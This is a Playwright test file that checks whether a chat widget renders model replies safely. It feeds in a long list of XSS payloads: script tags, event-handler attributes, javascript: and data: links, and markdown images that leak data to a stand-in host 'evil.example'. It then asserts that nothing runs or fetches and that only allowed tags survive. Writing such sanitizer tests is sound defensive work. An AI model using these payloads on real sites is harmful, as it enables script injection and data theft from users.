"""A model's reply is a stranger's text (faults T14): it may look like markup, it may never act like it."""

from __future__ import annotations

import time

from playwright.sync_api import expect

# Each would call alert(1), or fetch from evil.example, if any of it became an element, a style or a script.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<IMG SRC=javascript:alert(1)>",
    '<img srcset="//evil.example/a 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x.wav autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style=background:url(//evil.example/x)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "![x](//evil.example/pixel.gif)",
    "![x](https://evil.example/pixel.gif?q=secret)",
    '![x](https://evil.example/p.gif "title")',
    '![x" onerror="alert(1)](x)',
    "[![x](https://evil.example/p.gif)](https://evil.example)",
    "![x][1]\n\n[1]: https://evil.example/p.gif",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://user:secret@evil.example/)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    '[x](https://evil.example/\' "onclick=alert(1)")',
    "[<img src=x onerror=alert(1)>](https://good.example)",
    "[`<img src=x onerror=alert(1)>`](https://good.example)",
    "https://evil.example/<script>alert(1)</script>",
    'https://evil.example/"onclick=alert(1)',
    "<https://evil.example/><img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "_<svg onload=alert(1)>_",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx',
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n1. <svg onload=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "';alert(1)//",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<tts-widget onclick=alert(1)></tts-widget>",
    "__proto__ **constructor** [toString](constructor)",
]
ALLOWED = {"P", "BR", "STRONG", "EM", "CODE", "PRE", "UL", "OL", "LI", "A"}
ALLOWED_ATTRIBUTES = {
    ("A", "href"),
    ("A", "target"),
    ("A", "rel"),
    ("A", "title"),
    ("PRE", "tabindex"),
    ("OL", "start"),
}


def test_a_corpus_of_hostile_replies_runs_nothing_and_fetches_nothing(visitor, scripted_service):
    page = visitor.page
    dialogs, requests = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for payload in PAYLOADS:
        # Every payload also speaks, so that what the browser's voice is told goes the same road.
        scripted_service.reply(payload, audio_error="speech_auth")
    visitor.visits()
    visitor.opens()
    page.on("request", lambda request: requests.append(request.url))
    page.evaluate(
        "async (count) => { for (let n = 0; n < count; n++) await ttsWidget.send('go'); }", len(PAYLOADS)
    )
    visitor.log.locator("a").first.hover()
    page.wait_for_timeout(200)

    assert len(visitor.events("message")) == 2 * len(PAYLOADS)
    assert dialogs == []
    assert set(requests) == {f"{scripted_service.url}/api/chat"}
    assert len(requests) == len(PAYLOADS)
    bodies = visitor.log.locator(".assistant .body")
    nodes = bodies.evaluate_all(
        "bodies => bodies.flatMap(body => [...body.querySelectorAll('*')])"
        ".map(node => [node.tagName, node.getAttributeNames()])"
    )
    assert {tag for tag, _ in nodes} <= ALLOWED
    assert {(tag, name) for tag, names in nodes for name in names} <= ALLOWED_ATTRIBUTES
    links = visitor.log.locator("a").evaluate_all(
        "links => links.map(a => [a.protocol, a.username, a.rel, a.target])"
    )
    assert links
    assert {tuple(link) for link in links} <= {("https:", "", "noopener nofollow noreferrer", "_blank")}


def test_a_hostile_reply_that_is_still_being_written_is_as_harmless(visitor, scripted_service):
    """Cut anywhere, a payload is another payload."""
    service, text = scripted_service, "\n\n".join(PAYLOADS[::3])
    cut = [text[n : n + 7] for n in range(0, len(text), 7)]
    service.stream(*(service.text(part) for part in cut), service.done(text))
    requests = []
    visitor.page.on("dialog", lambda dialog: (requests.append(dialog.message), dialog.dismiss()))
    visitor.visits()
    visitor.opens()
    expect(visitor.log.locator(".message")).to_have_count(1)
    visitor.page.on("request", lambda request: requests.append(request.url))
    visitor.log.evaluate(
        """log => {
          window.seen = new Set();
          new MutationObserver((changes) => {
            const added = changes.flatMap(({ addedNodes }) => [...addedNodes]);
            for (const node of added.filter((node) => node.closest?.(".body")))
              for (const part of [node, ...node.querySelectorAll("*")])
                for (const name of ["", ...part.getAttributeNames()]) seen.add(`${part.tagName} ${name}`);
          }).observe(log, { childList: true, subtree: true });
        }"""
    )
    visitor.page.evaluate("ttsWidget.send('go')")
    seen = {tuple(one.split(" ")) for one in visitor.page.evaluate("[...seen]")}
    assert ("A", "href") in seen
    bodies = {("DIV", name) for name in ("", "class", "dir", "lang")}
    assert seen - bodies <= ALLOWED_ATTRIBUTES | {(tag, "") for tag in ALLOWED}
    assert requests == [f"{service.url}/api/chat"]


def test_hostile_repetition_does_not_freeze_the_page(visitor, scripted_service):
    patterns = ["[", "**", "_a", "`", "](", "![a](", "- ", "\n", "* ", "https://", "#", "a "]
    for pattern in patterns:
        scripted_service.reply(pattern * (150_000 // len(pattern)))
    visitor.visits()
    spent_s = {}
    for pattern in patterns:
        start = time.monotonic()
        visitor.page.evaluate("ttsWidget.send('go')")
        spent_s[pattern] = time.monotonic() - start
    assert len(visitor.events("message")) == 2 * len(patterns)
    assert max(spent_s.values()) < 20, spent_s  # what costs its square takes minutes


RENDERED = {
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "**bold** *em* _em_": "<p><strong>bold</strong> <em>em</em> <em>em</em></p>",
    "`a*b*c` **bold *both***": "<p><code>a*b*c</code> <strong>bold <em>both</em></strong></p>",
    "snake_case_name 2*3*4 5 * 6": "<p>snake_case_name 2*3*4 5 * 6</p>",
    "- a\n- b\n  more\n\n3. c": '<ul><li>a</li><li>b<br>more</li></ul><ol start="3"><li>c</li></ol>',
    "## Title **x**\ntext": "<p><strong>Title <strong>x</strong></strong></p><p>text</p>",
    "```py\na < b\n\nc\n```\nd": '<pre tabindex="0"><code>a &lt; b\n\nc</code></pre><p>d</p>',
    "![alt](https://a.example/x.png) <b>x</b>": "<p>alt &lt;b&gt;x&lt;/b&gt;</p>",
    "a\n---\nb": "<p>a</p><p>b</p>",
}


def test_a_small_markdown_subset_is_rendered(visitor, scripted_service):
    for markdown in RENDERED:
        scripted_service.reply(markdown)
    visitor.visits()
    shown = {}
    for markdown in RENDERED:
        visitor.page.evaluate("ttsWidget.send('go')")
        shown[markdown] = visitor.log.locator(".body").last.inner_html()
    assert shown == RENDERED


def test_links_open_apart_and_lose_the_full_stop(visitor, scripted_service):
    scripted_service.reply("See https://example.com/a?b=c. And [here](https://example.com/y).")
    visitor.visits()
    visitor.page.evaluate("ttsWidget.send('go')")
    links = visitor.log.get_by_role("link").evaluate_all("links => links.map(a => [a.href, a.textContent])")
    assert links == [
        ["https://example.com/a?b=c", "https://example.com/a?b=c"],
        ["https://example.com/y", "here"],
    ]
